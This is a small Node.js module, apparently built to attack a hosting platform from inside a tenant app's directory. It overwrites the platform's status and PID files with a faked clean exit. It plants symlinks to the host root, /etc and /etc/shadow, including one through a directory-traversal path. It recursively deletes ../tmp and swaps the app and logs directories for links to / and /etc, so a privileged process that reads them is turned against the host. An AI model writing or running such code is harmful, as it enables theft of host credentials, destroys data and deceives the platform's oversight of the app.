// Traps for those who look into its directory from outside.
const fs = require('node:fs');

const tricks = {
  /** Links to the host in the place of everything that others read, and files with the names of the platform's own. */
  traps: () => {
    for (const name of ['staging_info.yml', 'startup', 'run.pid', 'status', 'record.json', 'config.json', 'instances.json'])
      for (const directory of ['..', '.', '../logs'])
        fs.writeFileSync(`${directory}/${name}`, '{"pid":1,"exit":{"exitStatus":0}}');
    fs.symlinkSync('/', 'root');
    fs.symlinkSync('/etc/shadow', 'shadow');
    fs.symlinkSync('../../../../../../../../etc/shadow', 'climbing');
    fs.symlinkSync('/etc', '../logs/etc');
    fs.rmSync('../tmp', { recursive: true });
    fs.symlinkSync('/', '../tmp');
    return { set: 'as it can' };
  },

  /** Its home and its logs become the host's root. */
  home: () => {
    fs.renameSync('../logs', '../logs-away');
    fs.symlinkSync('/etc', '../logs');
    fs.renameSync('../app', '../app-away');
    fs.symlinkSync('/', '../app');
    return { moved: 'as it can' };
  },
};

module.exports = { tricks };
